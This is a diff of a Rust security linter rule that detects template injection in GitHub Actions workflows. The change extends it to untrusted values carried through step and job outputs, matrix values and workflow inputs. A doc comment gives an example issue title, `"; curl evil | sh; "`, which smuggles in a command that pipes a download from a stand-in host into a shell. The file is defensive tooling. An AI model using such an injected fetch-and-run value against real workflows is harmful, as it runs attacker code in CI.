@@ -4,17 +4,20 @@
 //! GitHub substitutes `${{ }}` into the script text before the shell or Node reads it, so an
 //! issue title such as `"; curl evil | sh; "` becomes code. The finding points at the
 //! expression itself. Only contexts an outsider can set are reported: titles, bodies, branch
-//! names, label names, commit messages and author fields of events. Workflow inputs,
-//! `github.ref_name` and `github.base_ref` need write access to set and are not reported.
+//! names, label names, commit messages and author fields of events, and the step outputs, job
+//! outputs, matrix values and reusable-workflow inputs that carry them ([`super::carried`]).
+//! Other workflow inputs, `github.ref_name` and `github.base_ref` need write access to set
+//! and are not reported.
 
 use std::sync::LazyLock;
 
 use regex::Regex;
 
+use super::carried::{Carried, Taint, carried_in};
 use super::{Finding, Rule, Severity, Sources, YamlFile, action_name, jobs, steps};
 use crate::evidence::Confidence;
 use crate::parse::yaml::Node;
-use crate::source::Location;
+use crate::source::{self, Location};
 
 pub const RULE: Rule = Rule {
     id: "template-injection",
@@ -45,9 +48,9 @@ static UNTRUSTED: LazyLock<Option<Regex>> = LazyLock::new(|| {
     .ok()
 });
 
-/// The untrusted context named in the expression text, if any. Expressions that can only
-/// evaluate to a boolean (`contains(...)`, `a == b`) expand to `true` or `false` and are safe.
-pub(crate) fn untrusted_context(expression: &str) -> Option<&str> {
+/// Whether an expression can expand to text: calls that only yield a boolean
+/// (`contains(...)`) and single comparisons (`a == b`) expand to `true` or `false`.
+pub(crate) fn yields_text(expression: &str) -> bool {
     let inner = expression
         .trim_start_matches("${{")
         .trim_end_matches("}}")
@@ -59,49 +62,77 @@ pub(crate) fn untrusted_context(expression: &str) -> Option<&str> {
     let comparison = (inner.contains("==") || inner.contains("!="))
         && !inner.contains("||")
         && !inner.contains("&&");
-    if boolean_call || comparison {
+    !(boolean_call || comparison)
+}
+
+/// The untrusted context named in the expression text, if any.
+pub(crate) fn untrusted_context(expression: &str) -> Option<&str> {
+    if !yields_text(expression) {
         return None;
     }
     UNTRUSTED.as_ref()?.find(expression).map(|m| m.as_str())
 }
 
+/// Every `${{ }}` in the source lines of a node, as (line, column, expression text); lines
+/// and columns are 1-based, columns in characters.
+pub(crate) fn expressions<'f>(
+    node: &Node,
+    file: &YamlFile<'f>,
+) -> impl Iterator<Item = (usize, usize, &'f str)> {
+    let pattern = EXPRESSION.as_ref();
+    let lines = source::lines_between(file.text, node.span.line, node.span.end_line);
+    lines.flat_map(move |(number, line)| {
+        pattern.into_iter().flat_map(move |p| {
+            p.find_iter(line).map(move |found| {
+                let column = line[..found.start()].chars().count() + 1;
+                (number, column, found.as_str())
+            })
+        })
+    })
+}
+
 /// Reports every untrusted `${{ }}` in the source lines of a script node.
-fn scan(node: &Node, what: &str, file: &YamlFile, out: &mut Vec<Finding>) {
-    let Some(expression) = EXPRESSION.as_ref() else {
-        return;
-    };
-    let lines = file
-        .text
-        .lines()
-        .enumerate()
-        .skip(node.span.line.saturating_sub(1))
-        .take(node.span.end_line.max(node.span.line) + 1 - node.span.line.max(1));
-    for (index, line) in lines {
-        for found in expression.find_iter(line) {
-            let Some(context) = untrusted_context(found.as_str()) else {
-                continue;
-            };
-            let column = line[..found.start()].chars().count() + 1;
-            let end_column = column + found.as_str().chars().count();
-            let location = Location::line(file.path, index + 1, column, end_column);
+fn scan(node: &Node, what: &str, file: &YamlFile, carried: &Carried, out: &mut Vec<Finding>) {
+    for (line, column, expression) in expressions(node, file) {
+        let end_column = column + expression.chars().count();
+        let location = Location::line(file.path, line, column, end_column);
+        if let Some(context) = untrusted_context(expression) {
             out.push(Finding::new(
                 &RULE,
                 location,
                 format!("`{context}` is expanded into {what}; anyone who can set it runs code"),
                 file.text,
             ));
+        } else if let Some((shown, _, origin)) = carried_in(expression, carried) {
+            let mut finding = Finding::new(
+                &RULE,
+                location,
+                format!(
+                    "`{shown}` is expanded into {what} and carries `{}` from {}:{}; \
+                     anyone who can set that runs code",
+                    origin.context, origin.path, origin.line
+                ),
+                file.text,
+            );
+            finding.confidence = Confidence::Medium;
+            out.push(finding);
         }
     }
 }
 
 pub fn audit(sources: &Sources) -> Vec<Finding> {
+    let taint = Taint::new(&sources.workflows);
     let mut out = Vec::new();
     for file in &sources.workflows {
         for document in &file.documents {
-            for (_, job) in jobs(document) {
+            for (key, job) in jobs(document) {
+                let carried = key
+                    .as_str()
+                    .map(|name| taint.job(file.path, name).to_vec())
+                    .unwrap_or_default();
                 for step in steps(job) {
                     if let Some(run) = step.get("run") {
-                        scan(run, "a `run:` script", file, &mut out);
+                        scan(run, "a `run:` script", file, &carried, &mut out);
                     }
                     let is_script = step
                         .get("uses")
@@ -110,7 +141,13 @@ pub fn audit(sources: &Sources) -> Vec<Finding> {
                     if is_script
                         && let Some(script) = step.get("with").and_then(|w| w.get("script"))
                     {
-                        scan(script, "a github-script `script:`", file, &mut out);
+                        scan(
+                            script,
+                            "a github-script `script:`",
+                            file,
+                            &carried,
+                            &mut out,
+                        );
                     }
                 }
             }
